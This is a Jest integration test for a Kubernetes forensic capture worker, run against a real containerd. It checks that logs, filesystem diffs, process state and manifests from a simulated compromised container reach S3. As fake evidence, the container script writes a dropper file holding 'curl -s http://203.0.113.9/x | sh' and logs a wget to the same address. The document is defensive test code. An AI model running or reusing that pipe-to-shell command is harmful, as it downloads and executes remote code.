/**
 * The capture worker against a real containerd (test/containerd.ts): Debian's containerd and runc,
 * crictl built from its Go module, an image built here from Debian's static busybox and imported with
 * `ctr images import` (no registry). A pod sandbox and two containers are created through crictl the
 * way a kubelet would (log directory, log paths); one container writes logs, drops a file, deletes an
 * image file and keeps running with a child process. Then the production capture runs with
 * `CrictlRuntime` on this containerd's socket and the host's real /proc, uploads to the emulator's S3
 * (moto), and the test reads every object back and checks it against the manifest and against what
 * the container did.
 *
 * The machine must allow it (root, the tools from packages/testkit/scripts/install-containerd.sh).
 * When it does not, this file fails with the reason, unless KEIKO_NO_CONTAINERD=1 says to skip it
 * (then the directory-fixture tests in worker.test.ts are the only worker tests that ran).
 */

import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { AwsClients } from '@keiko/aws-kit';
import { type KubeClient, type KubeObject, silentLogger } from '@keiko/operator-kit';
import { createTestNamespace, testKubeConfig, waitFor } from '@keiko/testkit';
import { parse } from 'yaml';
import type { WorkerReport } from '../src/api/podcheckpoint.js';
import type { CaptureTarget } from '../src/checkpoint/containers.js';
import { captureLocation } from '../src/checkpoint/destination.js';
import { buildCaptureJob, WORKER_CONTAINER } from '../src/checkpoint/job.js';
import { WORKER_EXIT } from '../src/checkpoint/worker-env.js';
import { DEFAULTS } from '../src/config.js';
import { MANIFEST_SCHEMA, runCapture } from '../src/worker/capture.js';
import type { WorkerConfig } from '../src/worker/config.js';
import { CrictlRuntime } from '../src/worker/runtime.js';
import { s3Uploader } from '../src/worker/upload.js';
import {
  buildImageArchive,
  Containerd,
  childrenOf,
  containerdTools,
  isAlive,
  mountsUnder,
  processesMentioning,
} from './containerd.js';
import { readTar } from './fixture.js';
import {
  createBucket,
  createCheckpoint,
  createPod,
  getCheckpoint,
  kubeClient,
  listKeys,
  readObject,
  s3Clients,
} from './support.js';

const SKIP = process.env.KEIKO_NO_CONTAINERD === '1';
if (SKIP) console.warn('KEIKO_NO_CONTAINERD=1: the real-containerd worker tests are skipped');
const suite = SKIP ? describe.skip : describe;

const WORKER_JS = fileURLToPath(new URL('../dist/worker.js', import.meta.url));
const PAUSE_IMAGE = 'keiko.local/kf-pause:1';
const APP_IMAGE = 'keiko.local/kf-busybox:1';
const NODE = 'kf-containerd-node';
const MARKER = `kf-marker-${process.pid}`;
const DROPPED = 'curl -s http://203.0.113.9/x | sh\n';
// The app container: logs on stdout and stderr, a file in a new directory, an image file deleted
// (an overlay whiteout), then a child process, and it keeps running.
const APP_SCRIPT = [
  'echo "app started as $KF_MARKER"',
  'echo "suspicious: wget http://203.0.113.9/x" >&2',
  'mkdir -p /evidence',
  `printf '${DROPPED.replace('\n', '\\n')}' > /evidence/dropper.sh`,
  'rm /etc/motd',
  'sleep 2147483647 &',
  'echo ready',
  'wait',
].join('\n');

/** Runs a command to its end; its output and exit code (bounded: a minute). */
function runProcess(command: string, args: string[], env: NodeJS.ProcessEnv) {
  return new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve, reject) => {
    const child = spawn(command, args, { env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => {
      stdout += d;
    });
    child.stderr.on('data', (d) => {
      stderr += d;
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.once('error', reject);
    child.once('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

interface CriInspect {
  status: { id: string; state: string; exitCode?: number; imageRef?: string; image?: { image?: string } };
  info: { pid?: number };
}

suite('capture worker against a real containerd (crictl, host /proc, moto S3)', () => {
  let client: KubeClient;
  let aws: AwsClients;
  let namespace: string;
  let ctrd: Containerd;
  let imagesDir: string;
  let imageIds: Record<string, string>;
  let pod: KubeObject;
  let sandboxId: string;
  let setupId: string;
  let appId: string;
  let appPid: number;
  let childPid: number;

  const inspect = async (id: string) =>
    JSON.parse(await ctrd.crictl(['inspect', '-o', 'json', id])) as CriInspect;

  beforeAll(async () => {
    client = await kubeClient();
    aws = await s3Clients();
    namespace = await createTestNamespace(testKubeConfig(), 'kf-ctrd');
    const tools = containerdTools();
    imagesDir = mkdtempSync(join(tmpdir(), 'kf-images-'));
    const built = await buildImageArchive(imagesDir, tools.busybox, [
      { name: PAUSE_IMAGE, entrypoint: ['/bin/sleep', '2147483647'] },
      { name: APP_IMAGE, cmd: ['/bin/sh'] },
    ]);
    imageIds = built.ids;
    ctrd = await Containerd.start(tools, PAUSE_IMAGE);
    await ctrd.ctr(['--namespace', 'k8s.io', 'images', 'import', built.archive]);

    // The pod in the API (the worker reads it), and its sandbox on this runtime, as a kubelet makes it.
    pod = await createPod(client, namespace, 'victim-0', NODE, {
      initContainers: ['setup'],
      containers: ['app'],
    });
    const uid = pod.metadata.uid!;
    const podConfig = ctrd.configFile('pod.json', {
      metadata: { name: 'victim-0', namespace, uid, attempt: 0 },
      log_directory: join(ctrd.podLogs, `${namespace}_victim-0_${uid}`),
      // NamespaceMode NODE: host network, so no CNI is needed.
      linux: { security_context: { namespace_options: { network: 2 } } },
    });
    sandboxId = await ctrd.crictl(['runp', podConfig]);
    const container = (name: string, script: string) =>
      ctrd.configFile(`${name}.json`, {
        metadata: { name, attempt: 0 },
        image: { image: APP_IMAGE },
        command: ['/bin/sh', '-c', script],
        envs: [{ key: 'KF_MARKER', value: MARKER }],
        log_path: `${name}/0.log`,
        // NamespaceMode CONTAINER for PIDs, as the kubelet asks unless shareProcessNamespace.
        linux: { security_context: { namespace_options: { pid: 1 } } },
      });
    // An init container that has exited, then the app.
    setupId = await ctrd.crictl(['create', sandboxId, container('setup', 'echo setup done'), podConfig]);
    await ctrd.crictl(['start', setupId]);
    await waitFor(async () => (await inspect(setupId)).status.state === 'CONTAINER_EXITED', {
      timeoutMs: 30_000,
      description: 'the setup container to exit',
    });
    appId = await ctrd.crictl(['create', sandboxId, container('app', APP_SCRIPT), podConfig]);
    await ctrd.crictl(['start', appId]);
    appPid = (await inspect(appId)).info.pid!;
    const appLog = join(ctrd.podLogs, `${namespace}_victim-0_${uid}`, 'app', '0.log');
    await waitFor(
      async () => {
        const children = childrenOf(appPid);
        if (children.length !== 1 || !readFileSync(appLog, 'utf8').includes('stdout F ready')) return false;
        childPid = children[0]!;
        return true;
      },
      { timeoutMs: 30_000, description: 'the app container to be ready' },
    );
  });

  afterAll(async () => {
    await ctrd?.stop();
    if (imagesDir) rmSync(imagesDir, { recursive: true, force: true });
    aws?.destroy();
    client?.transport.close();
  });

  /** What the controller would hand the worker for the victim pod: its two containers on this runtime. */
  const targets = (): CaptureTarget[] =>
    [
      { name: 'setup', kind: 'init' as const, id: setupId, running: false },
      { name: 'app', kind: 'container' as const, id: appId, running: true },
    ].map((c) => ({
      ...c,
      runtime: 'containerd',
      image: APP_IMAGE,
      imageID: imageIds[APP_IMAGE]!,
      restartCount: 0,
    }));

  /** The worker's configuration for the victim pod on this node, and a capture run with the real CRI. */
  async function capture(endpoint = ctrd.endpoint) {
    const bucket = await createBucket(aws, 'kf-ctrd');
    const config: WorkerConfig = {
      checkpoint: { namespace, name: 'victim-0-cp', uid: '00000000-0000-0000-0000-000000000002' },
      pod: { namespace, name: 'victim-0', uid: pod.metadata.uid! },
      nodeName: NODE,
      bucket,
      keyPrefix: `evidence/forensics/1764201600_${namespace}_victim-0`,
      containers: targets(),
      requester: 'kubectl-create',
      criEndpoint: endpoint,
      hostRoot: ctrd.workerHostRoot(),
    };
    const reports: WorkerReport[] = [];
    let bytes = 0;
    const outcome = await runCapture(config, {
      runtime: new CrictlRuntime(config.criEndpoint, ctrd.tools.crictl),
      upload: s3Uploader(aws, bucket, (n) => {
        bytes += n;
      }),
      report: async (r) => {
        reports.push(structuredClone(r));
      },
      client,
      log: silentLogger(),
      bytesUploaded: () => bytes,
    });
    return { outcome, config, bucket, reports };
  }

  test('captures the running and the exited container; objects in S3 match the manifest and what the container did', async () => {
    // The capture must not disturb its target: sample the app's processes while it runs.
    const disturbed: string[] = [];
    const sampler = setInterval(() => {
      for (const pid of [appPid, childPid]) if (!isAlive(pid)) disturbed.push(`${pid} gone`);
    }, 25);
    const { outcome, config, bucket, reports } = await capture().finally(() => clearInterval(sampler));
    expect(disturbed).toEqual([]);
    expect(outcome.exitCode).toBe(WORKER_EXIT.ok);
    const after = await inspect(appId);
    expect([after.status.state, after.info.pid]).toEqual(['CONTAINER_RUNNING', appPid]);

    const prefix = config.keyPrefix;
    expect(await listKeys(aws, bucket)).toEqual(
      [
        'containers/app/fs-diff.tar',
        'containers/app/inspect.json',
        'containers/app/logs.tar',
        'containers/app/process.json',
        'containers/setup/inspect.json',
        'containers/setup/logs.tar',
        'events.yaml',
        'manifest.json',
        'pod.yaml',
        'sandbox-inspect.json',
      ].map((k) => `${prefix}/${k}`),
    );
    const object = (key: string) => readObject(aws, bucket, `${prefix}/${key}`);
    const manifest = JSON.parse((await object('manifest.json')).toString('utf8'));
    expect(manifest).toMatchObject({
      schema: MANIFEST_SCHEMA,
      node: NODE,
      pod: { namespace, name: 'victim-0', uid: pod.metadata.uid },
      sandbox: sandboxId,
    });
    // The image the runtime resolved is the one imported here (its config digest: no registry digest).
    expect(
      manifest.containers.map((c: { name: string; runtimeImageRef?: string }) => [c.name, c.runtimeImageRef]),
    ).toEqual([
      ['setup', imageIds[APP_IMAGE]],
      ['app', imageIds[APP_IMAGE]],
    ]);
    const uploaded = manifest.artifacts.filter((a: { key?: string }) => a.key) as {
      key: string;
      size: number;
      sha256: string;
    }[];
    expect(uploaded).toHaveLength(9);
    for (const a of uploaded) {
      const body = await readObject(aws, bucket, a.key);
      expect({
        key: a.key,
        size: body.length,
        sha256: createHash('sha256').update(body).digest('hex'),
      }).toEqual({
        key: a.key,
        size: a.size,
        sha256: a.sha256,
      });
    }
    expect(manifest.artifacts).toContainEqual({
      name: 'fs-diff',
      container: 'setup',
      mandatory: false,
      error: 'container not running: no filesystem diff or process state',
    });

    // CRI inspect, verbatim from containerd.
    const sandbox = JSON.parse((await object('sandbox-inspect.json')).toString('utf8'));
    expect(sandbox.status).toMatchObject({
      id: sandboxId,
      state: 'SANDBOX_READY',
      metadata: { name: 'victim-0', namespace, uid: pod.metadata.uid },
    });
    const appInspect = JSON.parse((await object('containers/app/inspect.json')).toString('utf8'));
    expect(appInspect.status).toMatchObject({
      id: appId,
      state: 'CONTAINER_RUNNING',
      metadata: { name: 'app' },
    });
    expect(appInspect.info.pid).toBe(appPid);
    const setupInspect = JSON.parse((await object('containers/setup/inspect.json')).toString('utf8'));
    expect(setupInspect.status).toMatchObject({ id: setupId, state: 'CONTAINER_EXITED', exitCode: 0 });

    // Logs as the runtime wrote them (CRI log format), stdout and stderr.
    const appLogs = readTar(await object('containers/app/logs.tar'));
    expect(appLogs.map((e) => e.name)).toEqual(['logs/0.log']);
    expect(appLogs[0]!.content).toMatch(new RegExp(`^\\S+ stdout F app started as ${MARKER}$`, 'm'));
    expect(appLogs[0]!.content).toMatch(/^\S+ stderr F suspicious: wget http:\/\/203\.0\.113\.9\/x$/m);
    const setupLogs = readTar(await object('containers/setup/logs.tar'));
    expect(setupLogs[0]!.content).toMatch(/^\S+ stdout F setup done$/m);

    // The filesystem diff is the overlay upper dir: what the container wrote and deleted, not the image.
    const diff = readTar(await object('containers/app/fs-diff.tar'));
    const byName = new Map(diff.map((e) => [e.name, e]));
    expect(byName.get('upper/evidence/')?.type).toBe('5');
    expect(byName.get('upper/evidence/dropper.sh')).toMatchObject({ type: '0', content: DROPPED });
    expect(byName.get('upper/etc/motd')?.type).toBe('3'); // whiteout: a 0/0 character device
    expect(diff.filter((e) => e.name.startsWith('upper/bin/'))).toEqual([]);

    // Process state of the container's real host PIDs: its init (PID 1 in its namespace) and child.
    const proc = JSON.parse((await object('containers/app/process.json')).toString('utf8'));
    expect(proc.pid).toBe(appPid);
    expect(
      proc.processes.map((p: { pid: number; ppid: number; cmdline: string[] }) => [p.pid, p.ppid, p.cmdline]),
    ).toEqual([
      [appPid, expect.any(Number), ['/bin/sh', '-c', APP_SCRIPT]],
      [childPid, appPid, ['sleep', '2147483647']],
    ]);
    expect(proc.processes[0].status).toMatch(new RegExp(`^NSpid:\\s+${appPid}\\s+1$`, 'm'));
    expect(proc.processes[0].environ).toContain(`KF_MARKER=${MARKER}`);
    expect(proc.processes[0].maps).toContain('/bin/busybox');

    const podYaml = parse((await object('pod.yaml')).toString('utf8'));
    expect(podYaml.metadata.uid).toBe(pod.metadata.uid);
    expect(reports.map((r) => r.stage)).toEqual(['Capturing', 'Uploading', 'Succeeded']);
    expect(reports.at(-1)!.artifacts).toEqual(manifest.artifacts);
  });

  test('dist/worker.js run as the capture Job runs it (its env, only its two capabilities) captures the real container', async () => {
    const bucket = await createBucket(aws, 'kf-ctrd-job');
    const cp = await createCheckpoint(client, namespace, 'victim-0-job', {
      pod: 'victim-0',
      destination: `s3://${bucket}/incidents`,
    });
    const job = buildCaptureJob({
      checkpoint: cp,
      pod,
      targets: targets(),
      location: captureLocation(cp.spec, namespace, cp.metadata.creationTimestamp!)!,
      config: { ...DEFAULTS, workerNamespace: namespace },
    });
    const worker = job.spec!.template!.spec!.containers!.find((c) => c.name === WORKER_CONTAINER) as {
      env: { name: string; value: string }[];
      volumeMounts: { mountPath: string }[];
      securityContext: { capabilities: { drop: string[]; add: string[] }; allowPrivilegeEscalation: boolean };
    };
    // The Job's host mounts, which workerHostRoot() stands for; its capabilities, applied with setpriv.
    expect(worker.volumeMounts.map((m) => m.mountPath)).toEqual([
      '/host/proc',
      '/host/var/log/pods',
      '/host/var/lib/containerd',
      '/host/run/containerd/containerd.sock',
    ]);
    const sc = worker.securityContext;
    expect([sc.capabilities.drop, sc.allowPrivilegeEscalation]).toEqual([['ALL'], false]);
    const caps = sc.capabilities.add.map((c) => `+${c.toLowerCase()}`).join(',');
    const setpriv = ['--bounding-set', `-all,${caps}`, '--inh-caps', '-all', '--no-new-privs', '--'];
    // The wrapper leaves exactly those: CAP_DAC_READ_SEARCH (2) and CAP_SYS_PTRACE (19).
    const self = await runProcess('setpriv', [...setpriv, 'cat', '/proc/self/status'], process.env);
    expect(self.stdout).toMatch(/^CapEff:\s+0000000000080004$/m);
    expect(self.stdout).toMatch(/^NoNewPrivs:\s+1$/m);

    const hostRoot = ctrd.workerHostRoot();
    const env: NodeJS.ProcessEnv = { ...process.env }; // KUBECONFIG and the emulator's AWS settings
    delete env.NODE_OPTIONS; // jest's, not the image's
    for (const { name, value } of worker.env) env[name] = value;
    env.HOST_ROOT = hostRoot;
    env.CRI_ENDPOINT = env.CRI_ENDPOINT!.replace('unix:///host/', `unix://${hostRoot}/`);
    env.TERMINATION_LOG = join(ctrd.base, 'termination-log');
    env.PATH = `${dirname(ctrd.tools.crictl)}:${env.PATH ?? ''}`; // crictl, as in the image
    const run = await runProcess('setpriv', [...setpriv, process.execPath, WORKER_JS], env);
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code: WORKER_EXIT.ok, stderr: '' });
    expect(readFileSync(env.TERMINATION_LOG, 'utf8')).toMatch(/^9 artifacts, \d+ bytes uploaded$/);

    // Its report is on the request; its manifest matches the objects.
    const status = (await getCheckpoint(client, namespace, 'victim-0-job')).status?.worker;
    expect(status).toMatchObject({ stage: 'Succeeded', manifestKey: `${env.DEST_PREFIX}/manifest.json` });
    expect(env.DEST_PREFIX).toMatch(new RegExp(`^incidents/forensics/\\d+_${namespace}_victim-0$`));
    const manifest = JSON.parse((await readObject(aws, bucket, status!.manifestKey!)).toString('utf8'));
    expect(manifest).toMatchObject({
      sandbox: sandboxId,
      checkpoint: { name: 'victim-0-job', uid: cp.metadata.uid },
    });
    const uploaded = manifest.artifacts.filter((a: { key?: string }) => a.key) as {
      key: string;
      size: number;
      sha256: string;
    }[];
    expect(uploaded.map((a) => a.key.slice(env.DEST_PREFIX!.length + 1)).sort()).toEqual([
      'containers/app/fs-diff.tar',
      'containers/app/inspect.json',
      'containers/app/logs.tar',
      'containers/app/process.json',
      'containers/setup/inspect.json',
      'containers/setup/logs.tar',
      'events.yaml',
      'pod.yaml',
      'sandbox-inspect.json',
    ]);
    for (const a of uploaded) {
      const body = await readObject(aws, bucket, a.key);
      expect([a.key, body.length, createHash('sha256').update(body).digest('hex')]).toEqual([
        a.key,
        a.size,
        a.sha256,
      ]);
    }
    // With only those capabilities: the environment and maps of a process that has more (ptrace
    // access), and the upper dir.
    const proc = JSON.parse(
      (await readObject(aws, bucket, `${env.DEST_PREFIX}/containers/app/process.json`)).toString('utf8'),
    );
    expect(proc.processes.map((p: { pid: number }) => p.pid)).toEqual([appPid, childPid]);
    expect(proc.processes[0].environ).toContain(`KF_MARKER=${MARKER}`);
    expect(proc.processes[0].maps).toContain('/bin/busybox');
    const diff = readTar(await readObject(aws, bucket, `${env.DEST_PREFIX}/containers/app/fs-diff.tar`));
    expect(diff.find((e) => e.name === 'upper/evidence/dropper.sh')).toMatchObject({ content: DROPPED });
  });

  test('a CRI socket that does not answer: exit code 5 with crictl’s error', async () => {
    const { outcome, bucket, reports } = await capture(`unix://${ctrd.base}/no-such.sock`);
    expect(outcome.exitCode).toBe(WORKER_EXIT.runtimeUnavailable);
    expect(reports.at(-1)).toMatchObject({ stage: 'Failed', reason: 'RuntimeUnavailable' });
    expect(reports.at(-1)!.message).toContain('no-such.sock');
    expect(await listKeys(aws, bucket)).toEqual([]);
  });

  test('the sandbox removed from the runtime: exit code 3, nothing uploaded', async () => {
    await ctrd.crictl(['stopp', sandboxId]);
    await ctrd.crictl(['rmp', sandboxId]);
    expect([isAlive(appPid), isAlive(childPid)]).toEqual([false, false]);
    const { outcome, bucket, reports } = await capture();
    expect(outcome.exitCode).toBe(WORKER_EXIT.targetGone);
    expect(reports.at(-1)).toMatchObject({ stage: 'Failed', reason: 'TargetGone' });
    expect(await listKeys(aws, bucket)).toEqual([]);
  });

  test('stopping containerd with a pod still running leaves no process, mount or temp dir behind', async () => {
    const podConfig = ctrd.configFile('bystander-pod.json', {
      metadata: { name: 'bystander-0', namespace, uid: 'bystander-uid', attempt: 0 },
      log_directory: join(ctrd.podLogs, `${namespace}_bystander-0_bystander-uid`),
      linux: { security_context: { namespace_options: { network: 2 } } },
    });
    const sandbox = await ctrd.crictl(['runp', podConfig]);
    const id = await ctrd.crictl([
      'create',
      sandbox,
      ctrd.configFile('bystander.json', {
        metadata: { name: 'main', attempt: 0 },
        image: { image: APP_IMAGE },
        command: ['/bin/sleep', '2147483647'],
        log_path: 'main/0.log',
        linux: {},
      }),
      podConfig,
    ]);
    await ctrd.crictl(['start', id]);
    const pid = (await inspect(id)).info.pid!;
    expect(isAlive(pid)).toBe(true);
    // What the stop must undo: the container's rootfs and the sandbox's /dev/shm, containerd and shims.
    expect(mountsUnder(ctrd.base).length).toBeGreaterThanOrEqual(2);
    expect(processesMentioning(ctrd.base).length).toBeGreaterThanOrEqual(2);

    const leftovers = await ctrd.stop();
    expect(leftovers).toEqual({ processes: [], mounts: [], dirExists: false });
    expect([isAlive(pid), isAlive(appPid), isAlive(childPid)]).toEqual([false, false, false]);
  });
});
